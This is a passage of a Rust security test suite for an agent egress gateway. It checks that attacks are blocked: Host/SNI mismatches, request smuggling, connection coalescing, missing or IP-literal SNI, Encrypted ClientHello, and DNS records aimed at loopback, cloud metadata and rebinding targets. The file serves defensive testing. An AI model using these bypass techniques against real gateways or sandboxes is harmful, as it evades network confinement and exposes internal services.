//! The security conformance matrix: every numbered threat of DESIGN.md section 5, at least
//! two concrete attacks each, through every path where the attack applies — transparent
//! HTTP, transparent TLS (h1, h2), the explicit proxy, the TCP relay, DNS, and direct
//! traffic the firewall must reject. Each cell runs a real client in the agent namespace
//! against the real gateway, asserts the attack failed and that the wan (origins, DNS,
//! echo, and canary listeners on the gateway's own ports) received nothing it should not.
//!
//! The shim cells (rows 7, 8 and 16) run the real `bottleneck-init` as PID 1 in the agent
//! namespace of a lab of their own (the shim narrows that namespace's routes, which the
//! other cells rely on), with a neighbour host on the agent network beside the gateway.
//! Each starts from the network a container engine gives (the lab's), shows the attack
//! working without the shim, then runs it as the agent after the shim and requires that
//! it fails and that the wan, the canaries and the neighbour received nothing.
//!
//! One test runs the whole matrix (one gateway per configuration), prints it and writes
//! it to `tests/conformance/MATRIX.md`; it fails if any cell is not blocked. A cell of an
//! attack marked as a known hole ([`Attack::hole`]) shows as OPEN while the attack still
//! works, and fails the test once it is blocked (so the mark gets removed).

#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use bottleneck_conformance::shim::{
    AGENT_PATH, AGENT_UID, Neighbour, ShimFixture, probe_results, restore_agent_network,
};
use bottleneck_conformance::{Bottle, Canary, Curl, PROXY, WanSnapshot, py_statuses};
use bottleneck_lab::addr::{
    DNS_V4, DNS_V6, ECHO_V4, ECHO_V6, GATEWAY_WAN_V4, HTTP_ORIGIN_V4, HTTP_ORIGIN_V6, ORIGIN_V4,
    ORIGIN_V6, OTHER_ORIGIN_V4,
};
use bottleneck_lab::shim::{UNDO_ATTEMPTS, undo_attempts_script};
use bottleneck_lab::{ExecOutput, Host};

const SECRET: &str = "conformance-secret-5e1f0a";

const POLICY: &str = r#"
version: 1
routes:
  - host: allowed.test
    matches:
      - paths: [{type: prefix, value: /echo}]
  - host: other.allowed.test
    auth: {scheme: Bearer, token_ref: LAB_TOKEN}
  - host: http.test
  - host: private.test
  - host: loop.test
  - host: meta.test
  - host: mapped.test
  - host: nat64.test
  - host: "*.rebind.test"
  - host: self.test
    tcp: [7]
  - host: echo.test
    tcp: [7]
  - host: privtcp.test
    tcp: [7]
  - host: rebind7.test
    tcp: [7]
dns:
  upstream: [198.51.100.53]
allow_ranges: [198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32]
"#;

/// The request-body bound the matrix's gateway runs with (row 15).
const BODY_LIMIT: usize = 1 << 20;
/// The per-client connection bound the matrix's gateway runs with (row 15).
const CLIENT_CONNECTIONS: usize = 100;
/// A second client on the agent network (row 15: others keep being served).
const OTHER_CLIENT: &str = "198.18.0.4";

#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum Col {
    Http,
    Tls1,
    Tls2,
    Proxy,
    Tcp,
    Dns,
    Direct,
}

const COLS: [(Col, &str); 7] = [
    (Col::Http, "transparent HTTP"),
    (Col::Tls1, "transparent TLS h1"),
    (Col::Tls2, "transparent TLS h2"),
    (Col::Proxy, "explicit proxy"),
    (Col::Tcp, "TCP relay"),
    (Col::Dns, "DNS"),
    (Col::Direct, "direct (firewall)"),
];

type Check = Box<dyn Fn(&Ctx) -> Result<String, String> + Send + Sync>;
type ShimCheck = Box<dyn Fn(&ShimCtx) -> Result<String, String> + Send + Sync>;

enum Cell {
    Run(Check),
    /// Runs in the shim's lab ([`ShimCtx`]), after the agent namespace's network was put
    /// back as the lab built it.
    Shim(ShimCheck),
    Covered(&'static str),
}

struct Attack {
    row: u8,
    name: String,
    cells: Vec<(Col, Cell)>,
    /// A known hole, reported and not fixed yet: its cells show OPEN while the attack
    /// works and FAILED once it is blocked (remove the mark then).
    hole: Option<&'static str>,
}

struct Ctx {
    b: Bottle,
    canary: Canary,
    seq: AtomicU64,
}

impl Ctx {
    fn start() -> Ctx {
        let b = Bottle::start(
            POLICY,
            &[("LAB_TOKEN", SECRET)],
            &[
                "--listen-proxy",
                PROXY,
                "--upstream-idle-seconds",
                "5",
                "--max-request-body-bytes",
                &BODY_LIMIT.to_string(),
                "--max-connections-per-client",
                &CLIENT_CONNECTIONS.to_string(),
            ],
        );
        let dns = b.lab.dns();
        dns.add_a("loop.test", "127.0.0.1".parse().unwrap())
            .unwrap();
        dns.add_aaaa("loop.test", "::1".parse().unwrap()).unwrap();
        dns.add_a("meta.test", "169.254.169.254".parse().unwrap())
            .unwrap();
        dns.add_aaaa("meta.test", "fd00:ec2::254".parse().unwrap())
            .unwrap();
        dns.add_aaaa("mapped.test", "::ffff:127.0.0.1".parse().unwrap())
            .unwrap();
        dns.add_aaaa("nat64.test", "64:ff9b::7f00:1".parse().unwrap())
            .unwrap();
        dns.add_a("self.test", GATEWAY_WAN_V4).unwrap();
        dns.add_a("privtcp.test", "10.9.9.9".parse().unwrap())
            .unwrap();
        dns.add_alternating(
            "rebind7.test",
            (ECHO_V4, ECHO_V6),
            ("127.0.0.1".parse().unwrap(), "::1".parse().unwrap()),
        )
        .unwrap();
        let canary = Canary::start(&b.lab);
        Ctx {
            b,
            canary,
            seq: AtomicU64::new(0),
        }
    }

    /// A unique marker for paths and names of one cell.
    fn marker(&self) -> String {
        format!("m{}", self.seq.fetch_add(1, Ordering::SeqCst))
    }

    fn curl(&self, args: &[&str]) -> Curl {
        self.b.curl(args)
    }

    /// curl over transparent TLS (`--http1.1` or `--http2`) to `host`, connecting to the
    /// origin's address.
    fn tls(&self, flag: &str, host: &str, path: &str, extra: &[&str]) -> Curl {
        let resolve = format!("{host}:443:{ORIGIN_V4}");
        let url = format!("https://{host}{path}");
        let mut args = vec![flag, "-i", "--path-as-is", "--resolve", &resolve];
        args.extend_from_slice(extra);
        args.push(&url);
        self.curl(&args)
    }

    /// curl over transparent plain HTTP.
    fn http(&self, host: &str, path: &str, extra: &[&str]) -> Curl {
        let resolve = format!("{host}:80:{ORIGIN_V4}");
        let url = format!("http://{host}{path}");
        let mut args = vec!["-i", "--path-as-is", "--resolve", &resolve];
        args.extend_from_slice(extra);
        args.push(&url);
        self.curl(&args)
    }

    /// curl through the explicit proxy.
    fn proxy(&self, url: &str, extra: &[&str]) -> Curl {
        let proxy = format!("http://{PROXY}");
        let mut args = vec!["-i", "--path-as-is", "-x", &proxy];
        args.extend_from_slice(extra);
        args.push(url);
        self.curl(&args)
    }

    fn py(&self, script: &str) -> String {
        self.b.python(script)
    }

    fn snapshot(&self) -> WanSnapshot {
        WanSnapshot::take(&self.b, &self.canary)
    }

    /// Origin records (HTTPS and HTTP) whose path contains `marker`.
    fn reached(&self, marker: &str) -> Vec<bottleneck_lab::RequestRecord> {
        let lab = &self.b.lab;
        lab.https()
            .log()
            .into_iter()
            .chain(lab.http().log())
            .filter(|r| r.path.contains(marker))
            .collect()
    }
}

/// Runs `attack`, then requires that nothing at all reached the wan or the canaries.
fn quiet(ctx: &Ctx, attack: impl FnOnce() -> Result<String, String>) -> Result<String, String> {
    let before = ctx.snapshot();
    let result = attack();
    std::thread::sleep(Duration::from_millis(30));
    let after = ctx.snapshot();
    if after != before {
        return Err(format!(
            "the wan received traffic: {before:?} -> {after:?} ({result:?})"
        ));
    }
    result
}

/// The response status must be one of `codes`.
fn status(c: &Curl, codes: &[u16]) -> Result<String, String> {
    if codes.contains(&c.status) {
        Ok(c.summary())
    } else {
        Err(format!(
            "expected {codes:?}, got {}: {}",
            c.summary(),
            c.body
        ))
    }
}

/// curl must get no response (connection refused, reset, handshake failure).
fn no_response(c: &Curl) -> Result<String, String> {
    if c.status == 0 {
        Ok(c.summary())
    } else {
        Err(format!("got a response: {} {}", c.summary(), c.body))
    }
}

/// A raw-socket attempt: no 2xx or 101 answer at all, and if `need_answer` an error status.
fn refused_raw(out: &str, need_answer: bool) -> Result<String, String> {
    let statuses = py_statuses(out);
    let first = out.lines().next().unwrap_or("").to_owned();
    if statuses.iter().any(|s| (200..300).contains(s) || *s == 101) {
        return Err(format!("answered {statuses:?}: {out}"));
    }
    if need_answer && statuses.is_empty() {
        return Err(format!("no error status: {out}"));
    }
    Ok(if statuses.is_empty() {
        first
    } else {
        format!("{statuses:?}")
    })
}

fn attempt(ip: impl std::fmt::Display, port: u16, payload: &str, sni: &str, alpn: &str) -> String {
    let tls = if sni.is_empty() { "False" } else { "True" };
    let sni = if sni.is_empty() {
        "None".to_owned()
    } else {
        format!("'{sni}'")
    };
    let alpn = if alpn.is_empty() {
        "None".to_owned()
    } else {
        format!("['{alpn}']")
    };
    format!("attempt('{ip}',{port},b'{payload}',sni={sni},tls={tls},alpn={alpn})")
}

/// A smuggling attempt: the hidden request never reached the origin (checked by the
/// caller) and the agent got at most one success (the outer request's).
fn smuggling_outcome(out: &str) -> Result<String, String> {
    let statuses = py_statuses(out);
    let ok = statuses.iter().filter(|s| (200..300).contains(*s)).count();
    if ok <= 1 {
        Ok(format!(
            "hidden request never reached the origin; agent got {statuses:?}"
        ))
    } else {
        Err(format!("two successes: {out}"))
    }
}

/// A CONNECT through the explicit proxy to a `tcp` target that must not open: refused,
/// or answered and then closed without carrying a byte.
fn connect_tcp_refused(c: &Ctx, target: &str) -> Result<String, String> {
    let out = c.py(&format!("s=conn('198.18.0.1',3128)\ns.sendall(b'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n')\nh=b''\nwhile b'\\r\\n\\r\\n' not in h:\n  d=s.recv(1)\n  if not d: break\n  h+=d\nprint(h.split(b'\\r\\n')[0].decode())\ntry:\n  s.sendall(b'ping')\n  print('DATA', readall(s))\nexcept Exception as e:\n  print('DATA', type(e).__name__)\n"));
    let status = out.lines().next().unwrap_or("").to_owned();
    let data = out
        .lines()
        .find_map(|l| l.strip_prefix("DATA "))
        .unwrap_or("")
        .to_owned();
    if !status.contains(" 200") || !data.contains("ping") {
        Ok(format!("{status}; tunnel carried: {data}"))
    } else {
        Err(out)
    }
}

/// A connect from the agent: `ok <reply>` or `refused <seconds> <error>`.
fn tcp_probe(ip: impl std::fmt::Display, port: u16) -> String {
    format!(
        "import socket,time\nt=time.time()\ntry:\n  s=socket.create_connection(('{ip}',{port}),timeout=4)\n  s.sendall(b'probe')\n  s.settimeout(3)\n  d=s.recv(100)\n  print('ok' if d else 'closed', d)\nexcept OSError as e:\n  print('refused', round(time.time()-t,2), e)\n"
    )
}

/// A UDP datagram from the agent: `rejected <seconds>` (ICMP error) or `answered`/`silent`.
fn udp_probe(ip: impl std::fmt::Display, port: u16) -> String {
    let fam = if ip.to_string().contains(':') {
        "AF_INET6"
    } else {
        "AF_INET"
    };
    format!(
        "import socket,time\nt=time.time()\ns=socket.socket(socket.{fam},socket.SOCK_DGRAM)\ns.settimeout(3)\ns.connect(('{ip}',{port}))\ntry:\n  s.send(b'\\xc0\\x00\\x00\\x00\\x01'+b'q'*1200)\n  s.recv(2000)\n  print('answered')\nexcept ConnectionRefusedError:\n  print('rejected', round(time.time()-t,2))\nexcept socket.timeout:\n  print('silent')\nexcept OSError as e:\n  print('rejected', round(time.time()-t,2), e)\n"
    )
}

fn fast_refusal(out: &str) -> Result<String, String> {
    let line = out.lines().last().unwrap_or("").trim().to_owned();
    let mut words = line.split_whitespace();
    match (
        words.next(),
        words.next().and_then(|s| s.parse::<f64>().ok()),
    ) {
        (Some("refused" | "rejected"), Some(secs)) if secs < 1.5 => Ok(line),
        _ => Err(format!("not refused fast: {out}")),
    }
}

/// `dig` in the agent namespace: (status, answer lines).
fn dig(ctx: &Ctx, args: &[&str]) -> (String, Vec<String>) {
    let mut argv = vec!["dig", "+time=2", "+tries=1"];
    argv.extend_from_slice(args);
    let out = ctx.b.agent(&argv);
    let text = out.stdout_str();
    let status = text
        .split("status: ")
        .nth(1)
        .and_then(|r| r.split(',').next())
        .unwrap_or("<no answer>")
        .to_owned();
    let answers = text
        .split("ANSWER SECTION:")
        .nth(1)
        .map(|s| {
            s.lines()
                .skip(1)
                .take_while(|l| !l.trim().is_empty())
                .map(str::to_owned)
                .collect()
        })
        .unwrap_or_default();
    (status, answers)
}

fn getent(ctx: &Ctx, name: &str) -> Vec<IpAddr> {
    let out = ctx.b.agent(&["getent", "ahosts", name]);
    let mut ips: Vec<IpAddr> = out
        .stdout_str()
        .lines()
        .filter_map(|l| l.split_whitespace().next()?.parse().ok())
        .collect();
    ips.dedup();
    ips
}

/// A raw TLS ClientHello builder (Python) for SNI, ALPN and ECH experiments.
const CLIENT_HELLO: &str = r#"
import os,struct
def ext(t,d): return struct.pack('>HH',t,len(d))+d
def client_hello(sni=None, alpn=None, ech=False):
    e=b''
    if sni:
        n=sni.encode(); e+=ext(0, struct.pack('>HBH',len(n)+3,0,len(n))+n)
    e+=ext(10, struct.pack('>HH',2,29))
    e+=ext(13, struct.pack('>HHH',4,0x0403,0x0804))
    e+=ext(43, b'\x02\x03\x04')
    e+=ext(51, struct.pack('>HHH',36,29,32)+os.urandom(32))
    if alpn:
        a=b''.join(bytes([len(p)])+p.encode() for p in alpn); e+=ext(16, struct.pack('>H',len(a))+a)
    if ech:
        p=os.urandom(200)
        d=b'\x00'+struct.pack('>HH',1,1)+b'\x07'+struct.pack('>H',32)+os.urandom(32)+struct.pack('>H',len(p))+p
        e+=ext(0xfe0d,d)
    body=b'\x03\x03'+os.urandom(32)+b'\x20'+os.urandom(32)+struct.pack('>H',2)+b'\x13\x01'+b'\x01\x00'+struct.pack('>H',len(e))+e
    hs=b'\x01'+struct.pack('>I',len(body))[1:]+body
    return b'\x16\x03\x01'+struct.pack('>H',len(hs))+hs
def hello_reply(s, ch):
    s.sendall(ch)
    s.settimeout(4)
    try:
        d=s.recv(5)
    except Exception as ex:
        return 'error '+type(ex).__name__
    if not d: return 'closed'
    return {0x16:'serverhello',0x15:'alert'}.get(d[0],'other')
"#;

fn run_cell(ctx: &Ctx, check: &Check) -> Result<String, String> {
    caught(|| check(ctx))
}

/// A check's result, a panic inside it becoming a failed cell rather than a lost matrix.
fn caught(check: impl FnOnce() -> Result<String, String>) -> Result<String, String> {
    match std::panic::catch_unwind(std::panic::AssertUnwindSafe(check)) {
        Ok(r) => r,
        Err(p) => Err(format!(
            "panicked: {}",
            p.downcast_ref::<String>()
                .cloned()
                .or_else(|| p.downcast_ref::<&str>().map(|s| s.to_string()))
                .unwrap_or_default()
        )),
    }
}

// ---------------------------------------------------------------------------------------
// The shim's lab: the real bottleneck-init as the agent's PID 1, a neighbour host on the
// agent network.
// ---------------------------------------------------------------------------------------

struct ShimCtx {
    nbr: Neighbour,
    fx: ShimFixture,
    c: Ctx,
}

/// The shim's settings for IPv6 routed through the gateway (the default disables it).
const V6_ROUTE: [(&str, &str); 2] = [
    ("BOTTLENECK_IPV6", "route"),
    ("BOTTLENECK_GATEWAY6", "2001:db8:a::1"),
];

impl ShimCtx {
    fn start() -> ShimCtx {
        let c = Ctx::start();
        let nbr = Neighbour::start(&c.b.lab);
        let fx = ShimFixture::new(&c.b.lab, &c.b.ca_pem);
        ShimCtx { nbr, fx, c }
    }

    fn lab(&self) -> &bottleneck_lab::Lab {
        &self.c.b.lab
    }

    /// `script` as the agent, after the real shim set the network up and dropped
    /// privilege (`env`: the shim's settings).
    fn shim(&self, env: &[(&str, &str)], script: &str) -> Result<ExecOutput, String> {
        self.fx.run(self.lab(), env, script)
    }

    /// `script` as the same user (node) in the container's network without the shim: what
    /// the attack does when nothing stops it.
    fn unshimmed(&self, script: &str) -> ExecOutput {
        self.lab()
            .command(Host::Agent, &["sh", "-c", script])
            .user(AGENT_UID, AGENT_UID)
            .env("PATH", AGENT_PATH)
            .run()
            .unwrap()
    }

    /// `script` as the container's root without the shim.
    fn root(&self, script: &str) -> ExecOutput {
        self.lab().exec(Host::Agent, &["sh", "-c", script]).unwrap()
    }

    /// The shell command running [`bottleneck_conformance::shim::PROBE_PY`] on `specs`.
    fn probe(&self, specs: &[String]) -> String {
        format!("python3 {} {}", self.fx.probe_py.display(), specs.join(" "))
    }

    /// What the neighbour, the wan and the canaries have received.
    fn received(&self) -> (WanSnapshot, (u64, u64), u64) {
        (
            self.c.snapshot(),
            self.nbr.counts(),
            self.lab().dns().queries(),
        )
    }
}

/// Runs a shim attack; requires that neither the wan (origins, echo, DNS), the canaries
/// nor the neighbour received anything meanwhile, and that the machine's own files are
/// unchanged.
fn shim_quiet(
    s: &ShimCtx,
    attack: impl FnOnce() -> Result<String, String>,
) -> Result<String, String> {
    let before = s.received();
    let seen = s.nbr.datagrams().len();
    let result = attack();
    std::thread::sleep(Duration::from_millis(50));
    let after = s.received();
    s.fx.unchanged()?;
    if after != before {
        let datagrams = s.nbr.datagrams();
        return Err(format!(
            "traffic left: the neighbour received datagrams {:?}; (wan, neighbour tcp/udp, \
             dns) {before:?} -> {after:?} ({result:?})",
            datagrams.get(seen..).unwrap_or_default()
        ));
    }
    result
}

fn run_shim_cell(s: &ShimCtx, check: &ShimCheck) -> Result<String, String> {
    restore_agent_network(s.lab())?;
    caught(|| check(s))
}

/// A probe spec for [`ShimCtx::probe`].
fn spec(name: &str, kind: &str, host: impl std::fmt::Display, port: u16) -> String {
    format!("{name},{kind},{host},{port}")
}

/// The probe results of `out`, each of `names` required to be present.
fn probed(out: &ExecOutput, names: &[&str]) -> Result<BTreeMap<String, String>, String> {
    let results = probe_results(&out.stdout_str());
    match names.iter().find(|n| !results.contains_key(**n)) {
        Some(missing) => Err(format!("probe {missing} did not run: {out:?}")),
        None => Ok(results),
    }
}

/// The neighbour itself answered this TCP probe.
fn neighbour_answered(result: &str) -> bool {
    result.starts_with("answered b'neighbour")
}

/// The control: without the shim, probe `name` reached the neighbour.
fn control_reached(s: &ShimCtx, specs: &[String], name: &str) -> Result<String, String> {
    let out = s.unshimmed(&s.probe(specs));
    let results = probed(&out, &[name])?;
    if neighbour_answered(&results[name]) {
        Ok(format!("without the shim {name} reached the neighbour"))
    } else {
        Err(format!(
            "control: without the shim {name} did not reach the neighbour: {results:?}"
        ))
    }
}

/// `name=<exit status>` printed by a script, which must be non-zero.
fn refused_rc(text: &str, name: &str) -> Result<i32, String> {
    let rc = text
        .lines()
        .find_map(|l| l.strip_prefix(&format!("{name}=")))
        .and_then(|v| v.trim().parse::<i32>().ok())
        .ok_or_else(|| format!("no {name} in {text}"))?;
    if rc == 0 {
        Err(format!("{name} succeeded: {text}"))
    } else {
        Ok(rc)
    }
}

/// A `/proc/<pid>/status` field.
fn status_field<'a>(status: &'a str, name: &str) -> Option<&'a str> {
    status
        .lines()
        .find_map(|l| l.strip_prefix(name)?.strip_prefix(':'))
        .map(str::trim)
}

/// The text between `==name==` and the next `==...==` line.
fn section(text: &str, name: &str) -> String {
    let marker = format!("=={name}==");
    text.lines()
        .skip_while(|l| *l != marker)
        .skip(1)
        .take_while(|l| !(l.starts_with("==") && l.ends_with("==")))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The agent namespace's IPv4 routes as the container's root sees them.
fn agent_routes(s: &ShimCtx) -> String {
    s.root("ip route").stdout_str()
}

/// The shim's routes: a default and a host route, both to the gateway, nothing on-link.
fn narrowed(routes: &str) -> Result<(), String> {
    let lines: Vec<&str> = routes.lines().collect();
    let ok = lines.len() == 2
        && lines
            .iter()
            .any(|l| l.starts_with("default via 198.18.0.1 dev eth0"))
        && lines.iter().any(|l| l.starts_with("198.18.0.1 dev eth0"));
    if ok {
        Ok(())
    } else {
        Err(format!("the agent's routes changed: {routes}"))
    }
}

fn a(row: u8, name: &str, cells: Vec<(Col, Cell)>) -> Attack {
    Attack {
        row,
        name: name.to_owned(),
        cells,
        hole: None,
    }
}

fn shim(f: impl Fn(&ShimCtx) -> Result<String, String> + Send + Sync + 'static) -> Cell {
    Cell::Shim(Box::new(f))
}

fn run(f: impl Fn(&Ctx) -> Result<String, String> + Send + Sync + 'static) -> Cell {
    Cell::Run(Box::new(f))
}

// ---------------------------------------------------------------------------------------
// The attacks, row by row.
// ---------------------------------------------------------------------------------------

fn row1() -> Vec<Attack> {
    let host_mismatch = |flag: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            quiet(c, || {
                let r = c.tls(
                    flag,
                    "allowed.test",
                    &format!("/echo/{m}"),
                    &["-H", "Host: other.allowed.test"],
                );
                status(&r, &[421])
            })
        })
    };
    vec![
        a(
            1,
            "Host header / `:authority` differs from the SNI (or from the absolute URI)",
            vec![
                (
                    Col::Http,
                    run(|c| {
                        let m = c.marker();
                        quiet(c, || {
                            let out = c.py(&attempt(ORIGIN_V4, 80, &format!("GET http://allowed.test/echo/{m} HTTP/1.1\\r\\nHost: other.allowed.test\\r\\nConnection: close\\r\\n\\r\\n"), "", ""));
                            refused_raw(&out, true)
                        })
                    }),
                ),
                (Col::Tls1, host_mismatch("--http1.1")),
                (Col::Tls2, host_mismatch("--http2")),
                (
                    Col::Proxy,
                    run(|c| {
                        let m = c.marker();
                        quiet(c, || {
                            status(
                                &c.proxy(
                                    &format!("https://allowed.test/echo/{m}"),
                                    &["-H", "Host: other.allowed.test"],
                                ),
                                &[421],
                            )
                        })
                    }),
                ),
            ],
        ),
        a(
            1,
            "absolute-form URI naming another host than the SNI / Host",
            vec![
                (
                    Col::Tls1,
                    run(|c| {
                        let m = c.marker();
                        quiet(c, || {
                            let out = c.py(&attempt(ORIGIN_V4, 443, &format!("GET https://other.allowed.test/echo/{m} HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n"), "allowed.test", "http/1.1"));
                            refused_raw(&out, true)
                        })
                    }),
                ),
                (
                    Col::Proxy,
                    run(|c| {
                        let m = c.marker();
                        quiet(c, || {
                            let out = c.py(&attempt("198.18.0.1", 3128, &format!("GET http://denied.test/echo/{m} HTTP/1.1\\r\\nHost: http.test\\r\\nConnection: close\\r\\n\\r\\n"), "", ""));
                            refused_raw(&out, true)
                        })
                    }),
                ),
            ],
        ),
        a(
            1,
            "connection reused for a second authority (h2 coalescing, h1 keep-alive)",
            vec![
                (
                    Col::Tls1,
                    run(|c| {
                        let m = c.marker();
                        let out = c.py(&format!("s=conn('{ORIGIN_V4}',443,'allowed.test',True,['http/1.1'])\ns.sendall(b'GET /echo/{m}-ok HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')\ntime.sleep(0.5)\ns.sendall(b'GET /echo/{m}-second HTTP/1.1\\r\\nHost: other.allowed.test\\r\\nConnection: close\\r\\n\\r\\n')\nr=readall(s)\nst=[l.split(b' ')[1].decode() for l in r.split(b'\\r\\n') if l.startswith(b'HTTP/1.')]\nprint('STATUSES',' '.join(st) or '-')\n"));
                        let st = py_statuses(&out);
                        let leaked = c.reached(&format!("{m}-second"));
                        let first = c.reached(&format!("{m}-ok")).len();
                        match st.as_slice() {
                            [200, second] if *second != 200 && leaked.is_empty() && first == 1 => {
                                Ok(format!("200 then {second}"))
                            }
                            // No answer at all to the second request is a bug (421 expected) but not a leak.
                            [200] if leaked.is_empty() && first == 1 => {
                                Ok("200 then no answer (421 expected; connection left hanging)"
                                    .into())
                            }
                            _ => Err(format!(
                                "statuses {st:?}, second authority reached {leaked:?}: {out}"
                            )),
                        }
                    }),
                ),
                (
                    Col::Tls2,
                    run(|c| {
                        let m = c.marker();
                        let ca = std::fs::read(&c.b.ca_pem).unwrap();
                        let uris = vec![
                            (
                                http::Method::GET,
                                format!("https://allowed.test/echo/{m}-ok"),
                            ),
                            (
                                http::Method::GET,
                                format!("https://other.allowed.test/echo/{m}-second"),
                            ),
                        ];
                        let st =
                            c.b.lab
                                .run_in(Host::Agent, move || h2_requests(ca, "allowed.test", uris))
                                .unwrap();
                        let leaked = c.reached(&format!("{m}-second"));
                        if st == [Ok(200), Ok(421)] && leaked.is_empty() {
                            Ok("200 then 421".into())
                        } else {
                            Err(format!(
                                "statuses {st:?}, second authority reached {leaked:?}"
                            ))
                        }
                    }),
                ),
            ],
        ),
    ]
}

fn row2() -> Vec<Attack> {
    let landed = |flag: &'static str, dst: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            let before = c.canary.count();
            let r = c.curl(&[
                flag,
                "--resolve",
                &format!("allowed.test:443:{dst}"),
                &format!("https://allowed.test/echo/{m}"),
            ]);
            let rec = c.reached(&m);
            let ok_ips = [IpAddr::V4(ORIGIN_V4), IpAddr::V6(ORIGIN_V6)];
            match rec.as_slice() {
                [one]
                    if r.status == 200
                        && one.local().is_some_and(|l| ok_ips.contains(&l.ip()))
                        && c.canary.count() == before =>
                {
                    Ok(format!("landed on {}", one.local_addr))
                }
                _ => Err(format!("{} records {rec:?}", r.summary())),
            }
        })
    };
    vec![
        a(
            2,
            "SNI allowed.test sent to another origin's IP (203.0.113.10)",
            vec![
                (
                    Col::Http,
                    run(|c| {
                        let m = c.marker();
                        let r = c.curl(&[
                            "--resolve",
                            &format!("http.test:80:{OTHER_ORIGIN_V4}"),
                            &format!("http://http.test/echo/{m}"),
                        ]);
                        let rec = c.reached(&m);
                        let ok_ips = [IpAddr::V4(HTTP_ORIGIN_V4), IpAddr::V6(HTTP_ORIGIN_V6)];
                        match rec.as_slice() {
                            [one]
                                if r.status == 200
                                    && one.local().is_some_and(|l| ok_ips.contains(&l.ip())) =>
                            {
                                Ok(format!("landed on {}", one.local_addr))
                            }
                            _ => Err(format!("{} records {rec:?}", r.summary())),
                        }
                    }),
                ),
                (Col::Tls1, landed("--http1.1", "203.0.113.10")),
                (Col::Tls2, landed("--http2", "203.0.113.10")),
                (
                    Col::Proxy,
                    run(|c| {
                        // CONNECT names the host: the tunnel's SNI must be that host.
                        let m = c.marker();
                        quiet(c, || {
                            let out = c.py(&format!("s=conn('198.18.0.1',3128)\ns.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')\nprint(s.recv(200))\nc=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE\ntry:\n  t=c.wrap_socket(s,server_hostname='other.allowed.test')\n  t.sendall(b'GET /echo/{m} HTTP/1.1\\r\\nHost: other.allowed.test\\r\\n\\r\\n')\n  print('ANSWER', t.recv(100))\nexcept Exception as e:\n  print('CLOSED', type(e).__name__)\n"));
                            if out.contains("200") && out.contains("CLOSED") {
                                Ok("tunnel closed (sni_mismatch)".into())
                            } else {
                                Err(out)
                            }
                        })
                    }),
                ),
            ],
        ),
        a(
            2,
            "SNI allowed.test sent to the gateway's own address (198.18.0.1)",
            vec![
                (Col::Tls1, landed("--http1.1", "198.18.0.1")),
                (Col::Tls2, landed("--http2", "198.18.0.1")),
            ],
        ),
    ]
}

fn row3() -> Vec<Attack> {
    let no_sni = |flag: &'static str| {
        run(move |c: &Ctx| {
            quiet(c, || {
                no_response(&c.curl(&[flag, "-k", &format!("https://{ORIGIN_V4}/echo")]))
            })
        })
    };
    let ip_sni = |alpn: &'static str| {
        run(move |c: &Ctx| {
            quiet(c, || {
                let out = c.py(&format!("{CLIENT_HELLO}\ns=conn('{ORIGIN_V4}',443)\nprint(hello_reply(s, client_hello('{ORIGIN_V4}',['{alpn}'])))\ns=conn('{ORIGIN_V4}',443)\nprint(hello_reply(s, client_hello('allowed.test',['{alpn}'])))\n"));
                let lines: Vec<&str> = out.lines().collect();
                match lines.as_slice() {
                    [attack, control] if *attack != "serverhello" && *control == "serverhello" => {
                        Ok(format!("IP-literal SNI: {attack} (control: serverhello)"))
                    }
                    _ => Err(out),
                }
            })
        })
    };
    let ech = |alpn: &'static str| {
        run(move |c: &Ctx| {
            quiet(c, || {
                let out = c.py(&format!("{CLIENT_HELLO}\ns=conn('{ORIGIN_V4}',443)\nprint(hello_reply(s, client_hello('allowed.test',['{alpn}'],ech=True)))\ns=conn('{ORIGIN_V4}',443)\nprint(hello_reply(s, client_hello('allowed.test',['{alpn}'])))\n"));
                let lines: Vec<&str> = out.lines().collect();
                match lines.as_slice() {
                    [attack, control] if *attack != "serverhello" && *control == "serverhello" => {
                        Ok(format!("ECH: {attack} (control: serverhello)"))
                    }
                    _ => Err(out),
                }
            })
        })
    };
    let in_tunnel = |sni: &'static str, ech: bool| {
        run(move |c: &Ctx| {
            quiet(c, || {
                let sni = if sni.is_empty() {
                    "None".to_owned()
                } else {
                    format!("'{sni}'")
                };
                let ech = if ech { "True" } else { "False" };
                let out = c.py(&format!("{CLIENT_HELLO}\ns=conn('198.18.0.1',3128)\ns.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')\nh=b''\nwhile b'\\r\\n\\r\\n' not in h: h+=s.recv(1)\nprint(h.split(b' ')[1].decode())\nprint(hello_reply(s, client_hello({sni},['http/1.1'],ech={ech})))\n"));
                let lines: Vec<&str> = out.lines().collect();
                match lines.as_slice() {
                    ["200", attack] if *attack != "serverhello" => Ok(format!("tunnel: {attack}")),
                    _ => Err(out),
                }
            })
        })
    };
    let svcb = |rtype: &'static str| {
        run(move |c: &Ctx| {
            let before: usize =
                c.b.lab
                    .dns()
                    .log()
                    .iter()
                    .filter(|q| q.qtype.is_some_and(|t| t.to_string() == rtype))
                    .count();
            let (st, answers) = dig(c, &["@198.18.0.1", "allowed.test", rtype]);
            let after: usize =
                c.b.lab
                    .dns()
                    .log()
                    .iter()
                    .filter(|q| q.qtype.is_some_and(|t| t.to_string() == rtype))
                    .count();
            if st == "NOERROR" && answers.is_empty() && before == after {
                Ok(format!("{rtype}: NOERROR, empty, not forwarded"))
            } else {
                Err(format!("{st} {answers:?}, forwarded {}", after - before))
            }
        })
    };
    vec![
        a(
            3,
            "no SNI (connection by IP)",
            vec![
                (Col::Tls1, no_sni("--http1.1")),
                (Col::Tls2, no_sni("--http2")),
                (Col::Proxy, in_tunnel("", false)),
            ],
        ),
        a(
